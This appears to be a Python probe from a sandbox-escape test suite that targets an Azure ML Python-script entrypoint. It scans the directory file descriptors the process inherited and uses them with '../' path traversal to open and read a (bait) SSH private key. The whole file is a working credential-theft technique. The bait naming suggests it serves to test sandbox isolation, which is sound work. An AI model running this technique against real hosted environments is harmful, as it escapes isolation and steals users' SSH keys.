"""Looks among the descriptors that it inherited for a folder from which the ssh key can be reached."""

import os
import stat

from attack import BAIT, attack, descriptors, every, told


def climb(number):
    for way in ("", *("/".join([".."] * depth) + "/" for depth in (1, 5, 40))):
        try:
            opened = os.open(way + BAIT["ssh_key"].lstrip("/"), os.O_RDONLY, dir_fd=number)
        except OSError:
            continue
        return told(f"descriptor {number}", os.read(opened, 200))
    return ""


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    return every(climb, [number for number, found in descriptors() if stat.S_ISDIR(found.st_mode)])
